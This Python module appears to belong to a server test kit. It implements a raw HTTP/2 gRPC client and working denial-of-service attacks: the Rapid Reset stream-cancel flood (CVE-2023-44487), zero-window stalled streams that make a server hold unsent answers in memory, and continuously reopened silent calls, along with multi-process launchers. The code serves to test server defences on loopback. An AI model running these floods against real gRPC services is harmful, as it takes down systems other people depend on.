"""A raw HTTP/2 gRPC client on the ``h2`` package (plain TCP, prior knowledge, no TLS), for the two attacks a
real gRPC library will not make:

- :func:`stall_streams`: streams that each ask for a large answer while the client grants the server no
  flow-control credit (SETTINGS_INITIAL_WINDOW_SIZE 0, never a WINDOW_UPDATE), so the server can send the
  response headers but never a byte of the answer: whatever it built stays in its memory.
- :func:`rapid_reset`: HEADERS + DATA + RST_STREAM for many streams in a row (CVE-2023-44487): each stream
  starts a call on the server and cancels it at once.

The client keeps reading the server's frames on a thread (so its SETTINGS and PINGs are acknowledged and the
connection looks alive) but never acknowledges received data: the server's send windows only shrink.
"""

from __future__ import annotations

import contextlib
import multiprocessing
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterable
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from typing import TypeVar

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

from testkit.harness import FLOOD_PEER, LOOPBACK
from testkit.payloads import grpc_frame

_READ_BYTES = 65536
_SLOW_READ_BYTES = 16384

_Report = TypeVar("_Report")


@dataclass
class StreamOutcome:
    """What the server did with one stream: answered headers, ended it (trailers or reset), or nothing yet."""

    stream_id: int
    opened_at: float
    headers_at: float | None = None
    ended_at: float | None = None
    grpc_status: int | None = None  # from trailers (or a trailers-only answer)
    grpc_message: str = ""
    reset_code: int | None = None  # RST_STREAM from the server (h2.errors.ErrorCodes value)
    data_bytes: int = 0

    @property
    def ended(self) -> bool:
        return self.ended_at is not None


class RawGrpcConnection:
    """One HTTP/2 connection speaking gRPC by hand.

    ``initial_window_size`` is what the client advertises for the streams the server sends on (0: the server
    may send no DATA until a WINDOW_UPDATE). With ``acknowledge_data`` the client grants credit back for the
    DATA it receives, as a normal client does; without it no WINDOW_UPDATE is ever sent but by :meth:`grant`. With
    ``read_past_goaway`` a GOAWAY does not end the connection for the client: the streams a draining server still
    answers are read to their end. With ``read_pause`` the client reads at most 16 KiB, then waits that long (a
    slow reader). Frames are read on a
    daemon thread until :meth:`close`; every outcome is recorded in :attr:`streams`. A connection to LOOPBACK
    comes from FLOOD_PEER: an attacker is another peer than the victims on LOOPBACK.
    """

    def __init__(
        self,
        host: str,
        port: int,
        initial_window_size: int = 65535,
        acknowledge_data: bool = False,
        connect_timeout: float = 5.0,
        read_past_goaway: bool = False,
        read_pause: float = 0.0,
    ) -> None:
        self.acknowledge_data = acknowledge_data
        self.read_past_goaway = read_past_goaway
        self.read_pause = read_pause
        self.host, self.port = host, port
        source = (FLOOD_PEER, 0) if host == LOOPBACK else None
        self.sock = socket.create_connection((host, port), timeout=connect_timeout, source_address=source)
        self.sock.settimeout(None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: initial_window_size}
        )
        if read_past_goaway:  # a graceful GOAWAY lets the streams it names finish, where h2 would close at once
            self._stay_open_past_goaway()
        self.streams: dict[int, StreamOutcome] = {}
        self.goaway: h2.events.ConnectionTerminated | None = None
        self.closed = threading.Event()  # the server closed the socket, or GOAWAY, or close()
        self.settings_received = threading.Event()
        self.protocol_errors: list[str] = []
        self._lock = threading.Lock()  # h2's state machine and the socket's writes are not thread-safe
        self._begin = time.monotonic()
        with self._lock:
            self.h2.initiate_connection()
            self._flush_locked()
        self._reader = threading.Thread(target=self._read_loop, name=f"h2raw-{port}", daemon=True)
        self._reader.start()

    def _stay_open_past_goaway(self) -> None:
        machine = self.h2.state_machine
        process = machine.process_input

        def process_input(received: h2.connection.ConnectionInputs) -> list[h2.events.Event]:
            return [] if received is h2.connection.ConnectionInputs.RECV_GOAWAY else process(received)

        machine.process_input = process_input

    # --- sending --------------------------------------------------------------------------------------------

    def _flush_locked(self) -> None:
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def wait_settings(self, timeout: float = 5.0) -> bool:
        """Wait for the server's SETTINGS, so its stream limit is known before streams are opened."""
        return self.settings_received.wait(timeout)

    @property
    def server_max_streams(self) -> int:
        return self.h2.remote_settings.max_concurrent_streams

    def start_call(
        self,
        path: str | bytes,
        message: bytes | None,
        reset: bool = False,
        flush: bool = True,
        grpc_timeout: str | None = None,
    ) -> int | None:
        """Open a stream with one unary gRPC request (HEADERS, then DATA ending the stream); ``message`` None: the
        HEADERS alone, the stream left open (a call whose request never comes); with ``reset``, a RST_STREAM
        (CANCEL) right after; with ``grpc_timeout`` (the header's value, e.g. ``"1u"``: one microsecond) a
        deadline. ``path`` as bytes is sent as it is, UTF-8 or not. The stream id, or None when the server's stream
        limit or a GOAWAY leaves no room for a new stream (the limit being enforced is the server's defence)."""
        with self._lock:
            if self.closed.is_set():
                return None
            try:
                stream_id = self.h2.get_next_available_stream_id()
                self.h2.send_headers(
                    stream_id,
                    [
                        (":method", "POST"),
                        (":scheme", "http"),
                        (":path", path),
                        (":authority", f"{self.host}:{self.port}"),
                        ("content-type", "application/grpc"),
                        ("te", "trailers"),
                        *([("grpc-timeout", grpc_timeout)] if grpc_timeout else []),
                    ],
                )
                if message is not None:
                    self.h2.send_data(stream_id, grpc_frame(message), end_stream=True)
                self.streams[stream_id] = StreamOutcome(stream_id, time.monotonic() - self._begin)
                if reset:
                    self.h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
            except (h2.exceptions.TooManyStreamsError, h2.exceptions.ProtocolError):
                return None
            if flush:
                self._send_or_close_locked()
        return stream_id

    def flush(self) -> None:
        with self._lock:
            self._send_or_close_locked()

    def grant(self, stream_id: int, nbytes: int) -> None:
        """Give the server ``nbytes`` of flow-control credit on ``stream_id`` and on the connection: what a client
        that stalled a stream (``initial_window_size`` 0) does when it starts reading."""
        with self._lock:
            self.h2.increment_flow_control_window(nbytes)
            self.h2.increment_flow_control_window(nbytes, stream_id)
            self._send_or_close_locked()

    def _send_or_close_locked(self) -> None:
        try:
            self._flush_locked()
        except OSError:
            self.closed.set()

    def close(self) -> None:
        """Close the socket without a GOAWAY: the way a crashed or vanished client leaves."""
        self.closed.set()
        with contextlib.suppress(OSError):  # already closed by the server
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()
        self._reader.join(5.0)

    # --- receiving ------------------------------------------------------------------------------------------

    def keep_sending(self, interval: float) -> None:
        """Until the connection ends, a 1-byte connection WINDOW_UPDATE every ``interval`` seconds, on a daemon
        thread: a client that keeps sending frames while it reads, as a gRPC client's window updates do."""

        def send() -> None:
            while not self.closed.wait(interval):
                with self._lock:
                    try:
                        self.h2.increment_flow_control_window(1)
                    except h2.exceptions.ProtocolError:
                        return
                    self._send_or_close_locked()

        threading.Thread(target=send, name=f"h2raw-send-{self.port}", daemon=True).start()

    def _read_loop(self) -> None:
        size = _SLOW_READ_BYTES if self.read_pause else _READ_BYTES
        while not self.closed.is_set():
            if self.read_pause:
                time.sleep(self.read_pause)
            try:
                data = self.sock.recv(size)
            except OSError:
                break
            if not data:
                break
            with self._lock:
                try:
                    events = self.h2.receive_data(data)
                except h2.exceptions.ProtocolError as exc:
                    self.protocol_errors.append(repr(exc))
                    break
                for event in events:
                    self._record_locked(event)
                # SETTINGS and PING acknowledgements, and WINDOW_UPDATEs only with acknowledge_data.
                self._send_or_close_locked()
        self.closed.set()

    def _record_locked(self, event: h2.events.Event) -> None:
        now = time.monotonic() - self._begin
        if isinstance(event, h2.events.RemoteSettingsChanged):
            self.settings_received.set()
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway = event
            if not self.read_past_goaway:
                self.closed.set()
        stream = self.streams.get(getattr(event, "stream_id", None) or 0)
        if stream is None:
            return
        if isinstance(event, h2.events.ResponseReceived):
            stream.headers_at = now
            self._read_status(stream, event.headers, now)  # a trailers-only answer (an error before any work)
        elif isinstance(event, h2.events.TrailersReceived):
            self._read_status(stream, event.headers, now)
        elif isinstance(event, h2.events.DataReceived):
            stream.data_bytes += len(event.data)
            if self.acknowledge_data:
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.StreamReset) and stream.ended_at is None:
            stream.reset_code, stream.ended_at = int(event.error_code), now

    @staticmethod
    def _read_status(stream: StreamOutcome, headers: list[tuple[str, str]], now: float) -> None:
        values = dict(headers)
        if "grpc-status" in values:
            stream.grpc_status, stream.grpc_message = int(values["grpc-status"]), values.get("grpc-message", "")
            stream.ended_at = now


# --- attacks ------------------------------------------------------------------------------------------------


@dataclass
class StallReport:
    """Stalled streams over some connections: how many the server took, what it did with them."""

    requested: int
    opened: int = 0
    not_opened: int = 0  # the server's stream limit (or a GOAWAY) left no room
    outcomes: list[StreamOutcome] = field(default_factory=list)
    goaways: int = 0

    @property
    def ended_by_server(self) -> int:
        return sum(s.ended for s in self.outcomes)

    @property
    def still_open(self) -> int:
        return sum(not s.ended for s in self.outcomes)

    def statuses(self) -> dict[str, int]:
        return stream_endings(self.outcomes)


def stream_endings(outcomes: list[StreamOutcome]) -> dict[str, int]:
    """Counts of how streams ended: ``grpc-<code>``, ``reset-<h2 error>``, or ``open``."""
    names = Counter()
    for s in outcomes:
        if s.grpc_status is not None:
            names[f"grpc-{s.grpc_status}"] += 1
        elif s.reset_code is not None:
            names[f"reset-{h2.errors.ErrorCodes(s.reset_code).name}"] += 1
        else:
            names["open"] += 1
    return dict(names)


class RawSilentCalls:
    """``connections`` connections (from FLOOD_PEER), each keeping ``streams_each`` calls of ``path`` open whose
    request never comes: a stream the server ends is replaced within ``reopen_pause`` seconds (and a connection
    the server closes, by a new one), from :meth:`open` to :meth:`close` (a ``with`` block)."""

    def __init__(
        self, host: str, port: int, path: str, connections: int, streams_each: int, reopen_pause: float = 0.5
    ) -> None:
        self.host, self.port, self.path = host, port, path
        self.connections, self.streams_each, self.reopen_pause = connections, streams_each, reopen_pause
        self._open: list[RawGrpcConnection] = []
        self._done: list[StreamOutcome] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._keep, name="raw-silent-calls", daemon=True)

    def _keep(self) -> None:
        while not self._stop.is_set():
            for i, conn in enumerate(self._open):
                if conn.closed.is_set():
                    self._done += conn.streams.values()
                    with contextlib.suppress(OSError):
                        self._open[i] = conn = RawGrpcConnection(self.host, self.port)
                open_now = sum(not s.ended for s in conn.streams.values())
                for _ in range(self.streams_each - open_now):
                    if conn.start_call(self.path, None) is None:
                        break
            self._stop.wait(self.reopen_pause)

    def open(self) -> RawSilentCalls:
        self._open = [RawGrpcConnection(self.host, self.port) for _ in range(self.connections)]
        self._thread.start()
        return self

    def close(self) -> dict[str, int]:
        """Stop, close every connection (once), and return how the calls ended (``stream_endings``)."""
        if not self._stop.is_set():
            self._stop.set()
            self._thread.join(10.0)
            for conn in self._open:
                conn.close()
                self._done += conn.streams.values()
        return stream_endings(self._done)

    def __enter__(self) -> RawSilentCalls:
        return self.open()

    def __exit__(self, *exc_info: object) -> None:
        self.close()


class StalledStreams:
    """``streams`` calls spread over ``connections`` connections that advertise a window of 0 and never read
    an answer; held open from :meth:`open` until :meth:`close` (a ``with`` block)."""

    def __init__(self, host: str, port: int, path: str, message: bytes, streams: int, connections: int) -> None:
        self.host, self.port, self.path, self.message = host, port, path, message
        self.report = StallReport(requested=streams)
        self.connections = connections
        self._open: list[RawGrpcConnection] = []

    def open(self) -> StalledStreams:
        self._open = [RawGrpcConnection(self.host, self.port, initial_window_size=0) for _ in range(self.connections)]
        for conn in self._open:
            conn.wait_settings()
        for n in range(self.report.requested):
            opened = self._open[n % len(self._open)].start_call(self.path, self.message)
            if opened is None:
                self.report.not_opened += 1
            else:
                self.report.opened += 1
        return self

    def snapshot(self) -> StallReport:
        """The report as of now (stream outcomes are filled in by the readers as the server acts)."""
        self.report.outcomes = [s for conn in self._open for s in conn.streams.values()]
        self.report.goaways = sum(conn.goaway is not None for conn in self._open)
        return self.report

    def close(self) -> StallReport:
        report = self.snapshot()
        for conn in self._open:
            conn.close()
        return report

    def __enter__(self) -> StalledStreams:
        return self.open()

    def __exit__(self, *exc_info: object) -> None:
        self.close()


@dataclass
class RapidResetReport:
    streams_reset: int = 0
    connections_used: int = 0
    goaways: Counter = field(default_factory=Counter)  # the server's GOAWAY error codes, by name
    started_wall: float = 0.0  # time.time() at the first stream and after the last
    ended_wall: float = 0.0

    @property
    def seconds(self) -> float:
        return self.ended_wall - self.started_wall


def rapid_reset(
    host: str,
    port: int,
    path: str,
    message: bytes,
    streams: int,
    max_seconds: float,
    batch: int = 50,
    reconnect: bool = True,
    acknowledge_data: bool = False,
) -> RapidResetReport:
    """``streams`` streams of HEADERS + DATA + RST_STREAM on one connection, written ``batch`` at a time;
    with ``reconnect`` a GOAWAY only makes the attacker open a new connection (as a real one would). Answers
    that slip out before a reset are left unacknowledged unless ``acknowledge_data`` (an attacker has no
    reason to grant credit; measured on the undefended server, the victims suffer more when it does not).
    Stops at ``streams`` or ``max_seconds``."""
    report = RapidResetReport(started_wall=time.time())
    begin = time.monotonic()
    conn: RawGrpcConnection | None = None
    try:
        while report.streams_reset < streams and time.monotonic() - begin < max_seconds:
            if conn is None or conn.closed.is_set():
                if conn is not None:
                    if conn.goaway is not None:
                        report.goaways[h2.errors.ErrorCodes(conn.goaway.error_code).name] += 1
                    conn.close()
                    if not reconnect:
                        break
                conn = RawGrpcConnection(host, port, acknowledge_data=acknowledge_data)
                conn.wait_settings()
                report.connections_used += 1
            sent = 0
            for _ in range(min(batch, streams - report.streams_reset)):
                if conn.start_call(path, message, reset=True, flush=False) is None:
                    break
                sent += 1
            report.streams_reset += sent
            conn.flush()
            if not sent:
                time.sleep(0.01)  # no room for a stream yet: wait for the server rather than spin
    except OSError:
        pass  # the server refused or dropped the connection: the attack ends here, the report says how far
    finally:
        if conn is not None:
            if conn.goaway is not None:
                report.goaways[h2.errors.ErrorCodes(conn.goaway.error_code).name] += 1
            conn.close()
    report.ended_wall = time.time()
    return report


def _in_processes(fn: Callable[..., _Report], args: tuple, copies: int, max_seconds: float) -> list[_Report]:
    """``fn(*args)`` in ``copies`` spawned processes at once (:func:`each_in_process`)."""
    return each_in_process(fn, [args] * copies, max_seconds)


def each_in_process(fn: Callable[..., _Report], each_args: list[tuple], max_seconds: float) -> list[_Report]:
    """``fn(*args)`` for each of ``each_args``, each in a spawned process, all at once; their reports, in order (a
    TimeoutError for one still running ``max_seconds`` + 60 s on). h2 is pure Python, and in separate processes
    the attackers neither share one core's worth of interpreter nor slow the caller's own threads (its probes and
    victims)."""
    context = multiprocessing.get_context("spawn")  # no fork of a process that runs gRPC threads
    with ProcessPoolExecutor(len(each_args), mp_context=context) as pool:
        futures = [pool.submit(fn, *args) for args in each_args]
        return [future.result(timeout=max_seconds + 60.0) for future in futures]


def rapid_reset_parallel(
    host: str, port: int, path: str, message: bytes, connections: int, streams_each: int, max_seconds: float
) -> list[RapidResetReport]:
    """:func:`rapid_reset` from ``connections`` processes at once, one connection each (:func:`_in_processes`)."""
    return _in_processes(rapid_reset, (host, port, path, message, streams_each, max_seconds), connections, max_seconds)


@dataclass
class CallLoopReport:
    """One connection's loop of calls, each sent once the last one ended: how each ended, by name
    (:func:`stream_endings`)."""

    endings: Counter = field(default_factory=Counter)
    goaway: str | None = None  # the server's GOAWAY error code, by name
    started_wall: float = 0.0  # time.time() at the first call and after the last
    ended_wall: float = 0.0

    @property
    def calls(self) -> int:
        return sum(self.endings.values())


def call_loop(
    host: str,
    port: int,
    path: str | bytes,
    message: bytes,
    max_seconds: float,
    grpc_timeout: str | None = None,
    max_calls: int | None = None,
) -> CallLoopReport:
    """One connection sending the same unary call again as soon as the last one ended (one in flight), with
    ``grpc_timeout`` as its deadline header when given, for ``max_seconds`` (or ``max_calls`` calls, whichever
    comes first) or until the server closes the connection. A call the server never ends within 5 s counts as
    ``open`` and the loop goes on."""
    report = CallLoopReport(started_wall=time.time())
    conn = RawGrpcConnection(host, port, acknowledge_data=True)
    conn.wait_settings()
    stop = time.monotonic() + max_seconds
    try:
        while time.monotonic() < stop and not conn.closed.is_set():
            if max_calls is not None and len(conn.streams) >= max_calls:
                break
            stream_id = conn.start_call(path, message, grpc_timeout=grpc_timeout)
            if stream_id is None:  # no room for a stream (it is the loop's only one): the server is closing
                break
            give_up = min(stop, time.monotonic() + 5.0)
            stream = conn.streams[stream_id]
            while not stream.ended and time.monotonic() < give_up and not conn.closed.is_set():
                time.sleep(0.0002)
    finally:
        report.endings = Counter(stream_endings(list(conn.streams.values())))
        if conn.goaway is not None:
            report.goaway = h2.errors.ErrorCodes(conn.goaway.error_code).name
        conn.close()
        report.ended_wall = time.time()
    return report


def call_loop_parallel(
    host: str,
    port: int,
    path: str,
    message: bytes,
    connections: int,
    max_seconds: float,
    grpc_timeout: str | None = None,
    max_calls: int | None = None,
) -> list[CallLoopReport]:
    """:func:`call_loop` from ``connections`` processes at once, one connection each (:func:`_in_processes`),
    each making at most ``max_calls`` calls when given."""
    args = (host, port, path, message, max_seconds, grpc_timeout, max_calls)
    return _in_processes(call_loop, args, connections, max_seconds)


# --- reports of attackers in parallel -----------------------------------------------------------------------


def attack_window(reports: Iterable[RapidResetReport | CallLoopReport], begin_wall: float) -> tuple[float, float]:
    """From the first report's start to the last one's end, in seconds since ``begin_wall`` (an observer's
    ``begin_wall``: its records' times count from it), so the observer's records made during the attack can be
    picked out (the attackers' processes take a while to start)."""
    reports = list(reports)
    return (
        min(r.started_wall for r in reports) - begin_wall,
        max(r.ended_wall for r in reports) - begin_wall,
    )
